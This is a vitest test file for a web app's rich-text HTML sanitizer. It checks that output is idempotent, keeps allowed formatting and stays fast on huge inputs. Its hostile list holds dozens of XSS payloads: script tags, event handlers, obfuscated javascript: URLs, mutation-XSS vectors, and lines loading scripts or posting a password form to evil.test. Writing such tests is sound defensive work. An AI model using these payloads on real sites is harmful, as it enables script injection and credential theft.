import { hostileHtml } from '@gurukul/contract/test/hostile-html';
import { isModest } from '@gurukul/contract/shared/rich-text';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { processorMs } from '@gurukul/contract/test/processor-time';
import { sanitizeRichText, unwrapRichText, wrapRichText } from './richtext.ts';

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img/src/onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe><img src=x onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<applet code=x>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style>p{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">covers the page</p>',
  '<p class="admin" id="root" name="cookie">x</p>',
  '<p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<p/onclick=alert(1)>x',
  '<p\u0000 onclick=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://evil.test/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="/logout">x</a>',
  '<a href="https://portal.test@evil.test/">x</a>',
  '<a href="https://x.test" target="_blank" onclick="alert(1)" rel="opener" ping="//evil.test">x</a>',
  '<a href=\'https://x.test/"onmouseover="alert(1)\'>x</a>',
  '<a href="https://x.test/?a=1&quot;onclick=&quot;alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html><html><body onload=alert(1)>x</body></html>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<textarea>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>',
  '<title></title><script>alert(1)</script>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><option><script>alert(1)</script></option></select>',
  '<form action="https://evil.test"><input name=password><button formaction=javascript:alert(1)>go</button></form>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<p>1 < 2 & 3 > 2</p>',
  '<',
  '</',
  '<a',
  '<a href="',
  '</p></p></script>',
  '<p>\ud800</p>',
  '\ufeff<script>alert(1)</script>',
  '<p><blockquote><p><h2><p><ul><p><li><a href=https://a.test><a href=https://b.test>x',
  '<ul><li><ul><li></ul></li><p></li>',
  '<span><p></span></p>',
];

const allowed =
  /<\/?(?:p|strong|em|u|s|ol|ul|li|blockquote|h2|h3|h4|span)>|<br \/>|<\/a>|<a href="(?:https?:\/\/|mailto:)[^"<>]*">/g;

/** The rest must contain no character that could open another tag. */
const withoutPermittedTags = (html: string) => html.replace(allowed, '');

describe('rich text', () => {
  it.each([...hostile, ...hostileHtml])('leaves nothing of %j that could run, load or restyle', (html) => {
    const clean = sanitizeRichText(html);
    expect(withoutPermittedTags(clean)).not.toMatch(/[<>]/);
    expect(sanitizeRichText(clean)).toBe(clean);
  });

  it('keeps what the editor writes', () => {
    const html =
      '<h2>Week 1</h2><p>Read <strong>and</strong> <em>learn</em>, <u>slowly</u> <s>fast</s><br />' +
      'at <a href="https://example.org/a?b=1&amp;c=2">the site</a> or <a href="mailto:a@example.org">ask</a></p>' +
      '<ol><li><p>one</p></li></ol><ul><li>two</li></ul><blockquote><p>said</p></blockquote><h3>a</h3><h4>b</h4>' +
      '<p><span>हिन्दी &amp; தமிழ்</span></p>';
    expect(sanitizeRichText(html)).toBe(html);
  });

  it.each([
    [
      '<b>a</b><i>b</i><del>c</del><h1>d</h1><h6>e</h6>',
      '<strong>a</strong><em>b</em><s>c</s><h2>d</h2><h4>e</h4>',
    ],
    ['<a href="HTTPS://Example.org" class="x">a</a>', '<a href="https://example.org/">a</a>'],
    ['<a href="javascript:alert(1)">a</a>', '<span>a</span>'],
    ['<p onclick="x()">a<script>b</script></p>', '<p>a</p>'],
    ['<div>a</div>', 'a'],
    ['&amp;lt;b&amp;gt;', '&amp;lt;b&amp;gt;'],
    ['a\u0000b', 'ab'],
    ['', ''],
  ])('writes %j as %j', (html, clean) => {
    expect(sanitizeRichText(html)).toBe(clean);
  });

  it.each(['&#x1F;', 'a&#127;b', '<p>&#0;</p>', '&#xD800;'])('leaves no control character of %s', (html) => {
    const clean = sanitizeRichText(html);
    // eslint-disable-next-line no-control-regex
    expect(clean).not.toMatch(/[\u0000-\u001f\u007f]/);
    expect(sanitizeRichText(clean)).toBe(clean);
  });

  it('changes nothing when it is applied again, for any input', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile, ...hostileHtml.filter((html) => html.length < 1000)),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<a href="',
        'https://a.test',
        '">',
        '<ul>',
        '<li>',
        '</ul>',
        '<h1>',
        '&',
        '&lt;',
      ),
      fc.constantFrom(
        '<svg>',
        '<math>',
        '<style>',
        '</style>',
        '<!--',
        '-->',
        '<textarea>',
        '<iframe>',
        '<table>',
        '"',
      ),
      fc.string({ unit: 'binary', maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const clean = sanitizeRichText(pieces.join(''));
        expect(withoutPermittedTags(clean)).not.toMatch(/[<>]/);
        expect(sanitizeRichText(clean)).toBe(clean);
      }),
      { numRuns: process.env['PROOF'] === 'full' ? 20_000 : 500 },
    );
  });

  it.each(['<p>', '<', '<a href="', '&', '<!--', '<ul><li>', '</p>', '<svg><style>', '<iframe>'])(
    'copes with a full field of %j',
    async (piece) => {
      let clean = '';
      const ms = await processorMs(() => (clean = sanitizeRichText(piece.repeat(100_000 / piece.length))));
      expect(withoutPermittedTags(clean)).not.toMatch(/[<>]/);
      expect(ms).toBeLessThan(5000);
    },
  );

  it('takes the JSON wrapper off exactly once', () => {
    expect(unwrapRichText('{"note":"<p>a</p><script>b</script>"}', 'note')).toBe('<p>a</p>');
    expect(unwrapRichText({ note: '<p>a</p>' }, 'note')).toBe('<p>a</p>');
    expect(unwrapRichText('<p>a</p>', 'note')).toBe('<p>a</p>');
    expect(unwrapRichText('{"note":"{\\"note\\":\\"<img>x\\"}"}', 'note')).toBe('{"note":"x"}');
    expect(unwrapRichText('{"other":"<p>a</p>"}', 'note')).toBe('');
    expect(unwrapRichText('{"note":["<script>"]}', 'note')).toBe('');
    expect(unwrapRichText('', 'note')).toBe('');
  });

  it('puts the wrapper back as the contract promises', () => {
    expect(wrapRichText('<p>"a"</p>', 'what')).toBe('{"what":"<p>\\"a\\"</p>"}');
    expect(unwrapRichText(wrapRichText('<p>"a"</p>', 'what'), 'what')).toBe('<p>"a"</p>');
  });
});

describe('formatting without limit', () => {
  const units = [
    '<b>',
    '<b></b>',
    '<a href="http://a.b/">',
    '<a href="http://a.b/">x</a>',
    '<p>',
    '<li>',
    '<ul><li>x</li></ul>',
    '<p><b><p></b>',
    '<table><tr><td>',
    '<span>',
    '&#60;b&#62;',
    '&amp;lt;',
    '<',
    '>',
    '<!-->',
    '<script>',
  ];

  it.each(units)('%s is refused', (unit) => {
    expect(isModest(unit.repeat(Math.floor(100_000 / unit.length)))).toBe(false);
  });

  // Without the limit some of these take seconds.
  it.each(units)('%s, as often as it may stand, is cleaned quickly', async (unit) => {
    const times = [6000, 3000, 2000, 1500, 1000, 700, 300, 100, 50, 30];
    const text = times.map((most) => unit.repeat(most)).find(isModest) ?? '';
    expect(text).not.toBe('');
    expect(await processorMs(() => sanitizeRichText(text))).toBeLessThan(500);
  });

  it('is not refused in texts that people write', () => {
    const page = '<h2>Week</h2><p>Some <strong>words</strong> &amp; a <a href="https://x.test/">link</a></p>';
    expect(isModest(page.repeat(300))).toBe(true);
    expect(isModest('<p>A line without an end<br>'.repeat(1400))).toBe(true);
    expect(isModest('x'.repeat(100_000))).toBe(true);
  });
});
